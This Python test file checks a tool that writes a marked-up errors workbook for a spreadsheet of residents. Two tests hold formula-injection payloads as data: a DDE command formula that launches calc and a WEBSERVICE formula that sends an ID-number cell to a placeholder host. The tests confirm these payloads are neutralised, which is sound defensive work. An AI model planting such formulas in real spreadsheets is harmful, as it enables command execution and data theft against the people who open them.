"""The errors workbook: the user's own file, marked, harmless, and fit to be brought again."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from intake_tables import Table, number, with_sheet_xml
from openpyxl.styles import Font
from test_checking import context

from linli.intake import workbook
from linli.intake.checking.table import check_table
from linli.intake.reading import read_table
from linli.intake.suggest import suggest, to_mapping
from linli.intake.workbook import write_errors

HEADER = ["姓名", "公民身份号码", "联系电话", "所在社区"]
ROWS = [HEADER, ["张三", number(1), "10070000001", "城里社区"], ["李4", number(2), "123", "城里社区"]]


def marked(path: Path, language: str = "zh-CN") -> tuple[Path, Any]:
    table = read_table(path)
    checked = check_table(table, to_mapping(suggest(table, {})), context())
    target = path.with_name("errors.xlsx")
    write_errors(path, target, table, checked.findings, language=language, stamp="王主任 2026-11-22 14:05")
    return target, openpyxl.load_workbook(target)


def test_bad_cells_are_coloured_and_say_what_to_do(xlsx: Table) -> None:
    _, book = marked(xlsx(ROWS))
    sheet = book["人员"]
    assert {c.coordinate for row in sheet for c in row if c.comment} == {"A3", "C3"}
    assert sheet["C3"].fill.fgColor.rgb.endswith(workbook.FILL["error"])
    assert "11 位" in sheet["C3"].comment.text or "区号" in sheet["C3"].comment.text
    assert [c.value for c in sheet[2]] == ROWS[1]


def test_the_list_says_who_when_and_what(xlsx: Table) -> None:
    _, book = marked(xlsx(ROWS), "en")
    rows = list(book["Findings"].iter_rows(values_only=True))
    assert rows[0][0].startswith("王主任 2026-11-22 14:05") and rows[1][0] == "Row"
    assert {(r[0], r[1], r[6]) for r in rows[2:]} == {
        (3, "姓名", "name.characters"),
        (3, "联系电话", "phone.length"),
    }
    assert book.active.title == "人员"


def test_sheets_widths_and_styles_of_the_user_stay(xlsx: Table, tmp_path: Path) -> None:
    path = xlsx(ROWS, sheets={"填表说明": "visible"})
    book = openpyxl.load_workbook(path)
    assert book.active is not None
    book.active["A2"].font = Font(bold=True)
    book.active.column_dimensions["B"].width = 33
    book.save(path)
    _, found = marked(path)
    assert found.sheetnames == ["人员", "填表说明", "问题清单"]
    assert found["人员"]["A2"].font.bold and found["人员"].column_dimensions["B"].width == 33


def test_mended_it_can_be_brought_again(xlsx: Table) -> None:
    target, book = marked(xlsx(ROWS))
    book["人员"]["A3"], book["人员"]["C3"] = "李四", "10070000002"
    book.save(target)
    table = read_table(target)
    checked = check_table(table, to_mapping(suggest(table, {})), context())
    assert table.frame.height == 2 and checked.findings.height == 0
    again, found = marked(target)
    assert not [c for row in found["人员"] for c in row if c.comment]


@pytest.mark.parametrize("written", ["=cmd|'/c calc'!A0", "+1+cmd|x", "-2+3", "@SUM(A1)"])
def test_text_like_a_formula_stays_text(xlsx: Table, written: str) -> None:
    path = xlsx([HEADER, ["甲", number(1), "x", "城里社区"]])
    cell_xml = f'<c r="C2" t="inlineStr"><is><t>{written}</t></is></c>'
    with_sheet_xml(path, lambda xml: re.sub(r'<c r="C2".*?</c>', lambda _: cell_xml, xml))
    assert read_table(path).frame["联系电话"][0] == written
    target, _ = marked(path)
    xml = zipfile.ZipFile(target).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    cell = openpyxl.load_workbook(target)["人员"]["C2"]
    assert (cell.value, cell.data_type) == (written, "s")


def test_live_formulas_become_the_values_they_showed(xlsx: Table) -> None:
    path = xlsx([HEADER, ['=WEBSERVICE("http://x/"&B2)', number(1), "123", "城里社区"]])
    target, _ = marked(path)
    assert b"WEBSERVICE" not in b"".join(zipfile.ZipFile(target).read(n) for n in zipfile.ZipFile(target).namelist())


def test_a_csv_comes_back_as_a_workbook_with_rows_in_place(text_file: Callable[..., Path]) -> None:
    lines = [
        "某镇台账,,,",
        ",".join(HEADER),
        f"张三,{number(1)},10070000001,城里社区",
        "",
        f"=1+1,{number(2)},123,城里社区",
    ]
    _, book = marked(text_file("\n".join(lines), "people.csv", "gb18030"))
    sheet = book["csv"]
    assert sheet["A3"].value == "张三" and sheet["C5"].comment is not None
    assert (sheet["A5"].value, sheet["A5"].data_type) == ("=1+1", "s")


def test_a_large_table_comes_back_as_its_rows_to_mend(xlsx: Table, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "STYLED_CELLS", 4)
    target, book = marked(xlsx(ROWS))
    rows = [[c.value for c in row] for row in book["人员"].iter_rows()]
    assert rows == [HEADER, ROWS[2]]
    assert read_table(target).frame.height == 1
